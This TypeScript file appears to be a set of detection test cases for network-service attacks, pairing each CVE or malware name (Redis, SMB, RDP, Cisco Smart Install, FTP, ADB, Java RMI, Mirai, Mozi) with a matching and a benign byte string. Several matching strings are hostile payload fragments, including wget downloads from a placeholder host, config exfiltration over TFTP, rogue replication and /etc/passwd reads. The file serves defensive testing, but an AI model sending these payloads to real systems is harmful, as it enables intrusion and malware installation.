import type { Cases } from './cases.ts';

export const networkServices: Cases = {
  'CVE-2022-0543': [
    'bytes:EVAL "local io_l = package.loadlib(\\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\\", \\"luaopen_io\\"); local io = io_l();" 0',
    'bytes:EVAL "return 1" 0',
  ],
  'redis-file-write': [
    'bytes:*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n',
    'bytes:*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n',
  ],
  'redis-rogue-replication': ['bytes:SLAVEOF 198.51.100.7 21000\r\n', 'bytes:SLAVEOF NO ONE\r\n'],
  'CVE-2025-49844': [
    'bytes:EVAL "local a=loadstring(string.rep(\'a\',9)) collectgarbage()" 0',
    'bytes:EVAL "return collect" 0',
  ],
  'CVE-2017-0144': [
    'bytes:\x00\x00\x00N\xffSMB2__TREEID__PLACEHOLDER__',
    'bytes:\x00\x00\x00N\xffSMBr\x00\x00\x00\x00',
  ],
  'CVE-2019-0708': [
    'bytes:\x03\x00\x01\xca\x02\xf0\x80\x7fe\xc0MS_T120\x00\x00\x00\x00\x00',
    'bytes:\x03\x00\x01\xca\x02\xf0\x80\x7fe\xc0rdpdr\x00',
  ],
  'CVE-2018-0171': [
    'bytes:\x00\x00\x00\x01\x00\x00\x00\x01copy system:running-config flash:/config.text\x00copy flash:/config.text tftp://198.51.100.7/a',
    'bytes:\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x04\x00\x00\x00\x08',
  ],
  'CVE-2011-2523': ['bytes:USER mara:)\r\nPASS x\r\n', 'bytes:USER mara\r\nPASS x:)\r\n'],
  'CVE-2015-3306': ['bytes:SITE CPFR /etc/passwd\r\n', 'bytes:SITE HELP\r\n'],
  'CVE-2010-2075': ['bytes:AB;nohup perl -MIO -e 1\n', 'bytes:AB; hello\n'],
  'CVE-2017-7494': ['bytes:\xffSMB\\PIPE\\/home/mara/lib.so', 'bytes:\xffSMB\\PIPE\\srvsvc'],
  'adb-program-put': [
    'bytes:OPEN\x01\x00\x00\x00shell:cd /data/local/tmp; wget http://198.51.100.7/a',
    'bytes:CNXN\x00\x00\x00\x01host::',
  ],
  'java-rmi-object': [
    'bytes:JRMI\x00\x02KP\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer',
    'bytes:JRMI\x00\x02K',
  ],
  'jdwp-open': ['bytes:JDWP-Handshake', 'bytes:JDWP is the Java Debug Wire Protocol'],
  'CVE-2020-0796': [
    'bytes:\x00\x00\x00\x72\xfcSMB\xff\xff\xff\xff\x01\x00',
    'bytes:\x00\x00\x00\x72\xfcSMB\x32\x00\x00\x00\x01\x00',
  ],
  'CVE-2024-47176': ['bytes:0 3 http://198.51.100.7:631/printers/a', 'bytes:0 3 pages'],
  'xiongmai-opentelnet': ['bytes:\x10OpenTelnet:OpenOnce', 'bytes:open telnet'],
  'CVE-2026-24061': ["bytes:\xff\xfa'\x00\x00USER\x01-f root\xff\xf0", 'bytes:\xff\xfa\x18\x00XTERM\xff\xf0'],
  'mirai-busybox': [
    'bytes:enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n',
    'bytes:/bin/busybox ls -l\r\n',
  ],
  'mozi-download': ['GET /?cmd=cd+/tmp;wget+http://198.51.100.7:8088/Mozi.m+-O+a', 'GET /mozilla/download'],
};
